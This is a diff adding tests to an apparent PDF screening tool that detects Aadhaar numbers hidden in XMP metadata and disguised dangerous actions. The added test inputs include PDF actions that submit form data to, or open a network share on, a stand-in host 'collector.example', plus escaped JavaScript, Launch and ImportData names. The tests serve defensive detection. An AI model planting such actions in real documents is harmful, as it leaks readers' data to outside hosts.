@@ -49,6 +49,31 @@ def test_aadhaar_number_in_the_title_is_found() -> None:
         pdf.check_pdf(paper(extra=f"/Title (Card {NUMBER})".encode()))
 
 
+@pytest.mark.parametrize(
+    "said",
+    [
+        "<dc:title>2341 2341 2346</dc:title>",
+        "<rdf:Description dc:title='2341-2341-2346'/>",
+        "<b>2341</b><b>2341</b><b>2346</b>",
+        "<dc:title>&#50;34123412346</dc:title>",
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_aadhaar_number_in_what_the_file_says_of_itself_is_found(said: str, encoding: str) -> None:
+    """XMP (ISO 16684-1), which scanners and office programs fill in."""
+    # given
+    words = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{said}</x:xmpmeta>".encode(encoding)
+    stream = b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream" % (len(words), words)
+
+    # when / then
+    with pytest.raises(AadhaarFound):
+        pdf.check_pdf(
+            pdf_of(
+                b"<< /Type /Catalog /Pages 2 0 R /Metadata 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", stream
+            )
+        )
+
+
 def test_paper_without_one_is_fine() -> None:
     pdf.check_pdf(paper("BT (Handloom Mark HM-1234, valid until 31-03-2027, 234123412345) Tj ET"))
 
@@ -99,6 +124,9 @@ def test_paper_that_unpacks_without_end_is_refused() -> None:
         b"/OpenAction << /S /J#61vaScript /#4a#53 (alert) >>",
         b"/AA << /S /L#61unch >>",
         b"/Names << /Emb#65ddedFiles 5 0 R >>",
+        b"/AA << /WC << /S /SubmitForm /F (https://collector.example) >> >>",
+        b"/OpenAction << /S /GoToR /F (//collector.example/share) >>",
+        b"/OpenAction << /S /Import#44ata /F (form.fdf) >>",
     ],
 )
 def test_names_in_disguise_are_read(extra: bytes) -> None:
